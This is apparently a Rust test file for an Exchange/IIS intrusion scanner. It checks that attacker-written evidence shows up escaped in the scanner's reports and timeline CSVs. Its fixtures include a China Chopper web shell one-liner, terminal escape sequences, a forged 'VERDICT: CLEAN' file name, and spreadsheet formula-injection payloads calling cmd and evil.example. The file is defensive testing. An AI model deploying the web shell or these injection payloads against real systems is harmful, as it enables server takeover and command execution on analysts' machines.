//! Hostile input, issue 13 items 7 and 8, through the real binary: evidence
//! the intruder wrote (a logged AnchorMailbox, a web shell's file name, a
//! broken log's name, a user rule's title, an IIS line's date) never
//! reaches the defender's terminal as escape sequences, nor a spreadsheet
//! as a formula.

mod common;

use common::*;
use exhunt_testgen::httpproxy::{self, attack, Format, Protocol};
use exhunt_testgen::{SplitMix64, Time};
use std::path::Path;
use tempfile::TempDir;

const HOUR: Time = Time::utc(2021, 3, 3, 6, 0, 0);

/// Sets the window title (OSC 0), rings the bell and clears the screen.
const OSC: &str = "\x1b]0;owned\x07\x1b[2J";
/// The same as escaped in the text report.
const OSC_SHOWN: &str = "\\x1b]0;owned\\x07\\x1b[2J";

/// What must never reach a terminal raw: ESC, BEL, CR, the 8-bit CSI
/// (U+009B, a C1 control) and the right-to-left override (U+202E).
fn raw_controls(s: &str) -> Vec<char> {
    s.chars()
        .filter(|&c| matches!(c, '\x1b' | '\x07' | '\r' | '\u{9b}' | '\u{202e}'))
        .collect()
}

/// The ProxyLogon chain, its AnchorMailbox values carrying `payload` before
/// their closing `#` (the SSRF predicate `ServerInfo~*/*` still holds), in
/// an hour of benign ECP traffic.
fn httpproxy_with_payload(root: &Path, payload: &str) {
    let mut rng = SplitMix64::new(42);
    let mut chain = attack::proxylogon_chain(&mut rng, "103.77.192.219", HOUR.plus_secs(1800));
    for r in &mut chain {
        r.anchor_mailbox = r.anchor_mailbox.replace('#', &format!("{payload}#"));
    }
    let mut rows = httpproxy::Traffic::new(7).hour(Protocol::Ecp, HOUR, 200);
    let at = rows.len() / 2;
    rows.splice(at..at, chain);
    put(
        root,
        &httpproxy_rel("Ecp", "2021030306"),
        &httpproxy::render(Format::Both, HOUR, &rows),
    );
}

const CHOPPER: &[u8] = br#"<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>"#;

#[test]
fn text_report_and_warnings_show_escape_sequences_escaped() {
    let dir = TempDir::new().unwrap();
    let root = dir.path();
    // An AnchorMailbox with an OSC title, a bell, a screen clear, an 8-bit
    // CSI and a right-to-left override.
    httpproxy_with_payload(root, &format!("{OSC}\u{9b}31m\u{202e}"));
    // A web shell whose name forges a clean verdict on a line of its own,
    // with ordinary Unicode text that must stay as it is.
    put(
        root,
        "inetpub/wwwroot/aspnet_client/影子é\x1b[8m\r\nVERDICT: CLEAN\n.aspx",
        CHOPPER,
    );
    // A broken HttpProxy log (binary where text was expected) named with an
    // escape sequence: a warning on standard error and an error in the report.
    put(
        root,
        &format!("{EXCHANGE}/Logging/HttpProxy/Ecp/HttpProxy_2021030307{OSC}-1.LOG"),
        &[
            0u8, 159, 146, 150, 0, 0, 1, 2, 3, 0, 27, 0, 255, 254, 0, 0, 7, 0,
        ],
    );

    let out = exhunt()
        .args(["scan", root.to_str().unwrap()])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).expect("the text report is UTF-8");
    let stderr = String::from_utf8(out.stderr).expect("warnings are UTF-8");
    assert!(
        [21, 31].contains(&out.status.code().unwrap()),
        "{:?}\n{stdout}\n{stderr}",
        out.status
    );
    assert!(stdout.contains("VERDICT: COMPROMISED"), "{stdout}");

    // Nothing raw reaches the terminal, and the escaped forms are visible.
    assert_eq!(raw_controls(&stdout), Vec::<char>::new(), "{stdout:?}");
    assert_eq!(raw_controls(&stderr), Vec::<char>::new(), "{stderr:?}");
    assert!(
        stdout.contains(&format!("{OSC_SHOWN}\\u{{9b}}31m\\u{{202e}}#")),
        "the AnchorMailbox is shown escaped: {stdout}"
    );
    assert!(
        stdout.contains("影子é\\x1b[8m\\r\\nVERDICT: CLEAN\\n.aspx"),
        "the shell's name is shown escaped, its letters as they are: {stdout}"
    );
    // The forged verdict stays inside its line.
    assert_eq!(
        stdout
            .lines()
            .filter(|l| l.trim_start().starts_with("VERDICT:"))
            .count(),
        1,
        "{stdout}"
    );
    // The broken log is named escaped in the report and on standard error.
    let broken = format!("HttpProxy_2021030307{OSC_SHOWN}-1.LOG");
    assert!(stdout.contains(&broken), "{stdout}");
    assert!(
        stderr
            .lines()
            .any(|l| l.starts_with("exhunt: warning: ") && l.contains(&broken)),
        "{stderr}"
    );

    // JSON keeps the values as they were logged (its encoder escapes them).
    let r = scan(&[root]);
    assert!(
        r.rule("proxylogon-ssrf-26855")
            .iter()
            .any(|f| f["evidence"]["AnchorMailbox"]
                .as_str()
                .unwrap()
                .contains(&format!("{OSC}\u{9b}31m\u{202e}#"))),
        "{:#?}",
        r.findings()
    );
    assert!(r.findings().iter().any(|f| f["path"]
        .as_str()
        .unwrap()
        .ends_with("VERDICT: CLEAN\n.aspx")));
}

/// A user's Sigma rule on IIS logs, its title given as a YAML scalar.
fn iis_rule(title_yaml: &str) -> String {
    format!(
        r#"title: {title_yaml}
id: 4f0c2a9e-5b7d-4e1a-9c3f-2d8e6b1a7c05
status: test
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains: '/static/'
  condition: selection
level: high
"#
    )
}

#[test]
fn user_rule_title_with_escapes_is_shown_escaped() {
    let dir = TempDir::new().unwrap();
    let rules = TempDir::new().unwrap();
    std::fs::write(
        rules.path().join("bell.yml"),
        // YAML's double-quoted escapes put the raw ESC and BEL in the title.
        iis_rule(r#""Shell request \e]0;owned\a\e[2J""#),
    )
    .unwrap();
    put(
        dir.path(),
        "inetpub/logs/LogFiles/W3SVC1/u_ex210304.log",
        iis_log(&["2021-03-04 02:13:07"]).as_bytes(),
    );
    let out = exhunt()
        .args([
            "scan",
            dir.path().to_str().unwrap(),
            "--sigma",
            rules.path().to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(raw_controls(&stdout), Vec::<char>::new(), "{stdout:?}");
    assert_eq!(raw_controls(&stderr), Vec::<char>::new(), "{stderr:?}");
    assert!(
        stdout.contains(&format!("Shell request {OSC_SHOWN}")),
        "{stdout}\n{stderr}"
    );
}

/// An IIS log whose request lines (one per `date time`) ask for a page
/// under /static/ (no bundled rule's business: the user's rule reports it).
fn iis_log(times: &[&str]) -> String {
    let mut log = String::from(
        "#Software: Microsoft Internet Information Services 10.0\r\n\
#Version: 1.0\r\n\
#Date: 2021-03-04 00:00:00\r\n\
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n\
2021-03-04 01:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.20 Mozilla/5.0 - 200 0 0 15\r\n",
    );
    for t in times {
        log.push_str(&format!(
            "{t} 10.0.0.5 GET /static/banner.png - 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 31\r\n"
        ));
    }
    log
}

/// Whether a spreadsheet would read the cell as a formula (OWASP).
fn formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn timeline_and_collect_manifest_neutralise_formulas() {
    let server = TempDir::new().unwrap();
    // A user's rule titled with a formula, on IIS lines whose date column
    // is a formula (an IIS line's time is its date and time as written).
    let rules = TempDir::new().unwrap();
    std::fs::write(
        rules.path().join("sum.yml"),
        iis_rule("'@SUM(1+9)*cmd|'' /C calc''!A0'"),
    )
    .unwrap();
    put(
        server.path(),
        "inetpub/logs/LogFiles/W3SVC1/u_ex210304.log",
        iis_log(&[
            "2021-03-04 02:13:07",
            "+cmd|'/Ccalc'!A0 02:14:00",
            "-2+3+cmd|'/Ccalc'!A0 02:15:00",
        ])
        .as_bytes(),
    );
    // A web shell named as a formula, at the top of a second input: its
    // path is its name.
    let loose = TempDir::new().unwrap();
    let name = r#"=HYPERLINK("http:evil.example","open me").aspx"#;
    put(loose.path(), name, CHOPPER);
    let evidence = TempDir::new().unwrap();
    let collected = evidence.path().join("copies");
    let out = exhunt()
        .args([
            "scan",
            server.path().to_str().unwrap(),
            loose.path().to_str().unwrap(),
            "--sigma",
            rules.path().to_str().unwrap(),
            "--format",
            "timeline",
            "--collect",
            collected.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(out.status.code().unwrap() >= 20, "{stdout}\n{stderr}");

    let cells = |csv_text: &str| -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv_text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    };
    let rows = cells(&stdout);
    let header = &rows[0];
    let col = |n: &str| header.iter().position(|h| h == n).unwrap();
    let (time, source, title) = (col("time"), col("source"), col("title"));
    for row in &rows {
        for c in row {
            assert!(!formula(c), "cell {c:?} of {row:?}\n{stdout}");
        }
    }
    let has = |i: usize, want: &str| rows.iter().any(|r| r[i] == want);
    assert!(has(source, &format!("'{name}")), "{stdout}");
    assert!(has(title, "'@SUM(1+9)*cmd|' /C calc'!A0"), "{stdout}");
    assert!(has(time, "'+cmd|'/Ccalc'!A0T02:14:00Z"), "{stdout}");
    assert!(has(time, "'-2+3+cmd|'/Ccalc'!A0T02:15:00Z"), "{stdout}");
    // Real times are left as they are.
    assert!(has(time, "2021-03-04T02:13:07Z"), "{stdout}");

    // The evidence copies' manifest, for people too.
    let manifest = std::fs::read_to_string(collected.join("manifest.csv")).unwrap();
    let rows = cells(&manifest);
    for row in &rows {
        for c in row {
            assert!(!formula(c), "cell {c:?} of {row:?}\n{manifest}");
        }
    }
    assert!(
        rows.iter().any(|r| r[0] == format!("'{name}")),
        "{manifest}"
    );
}
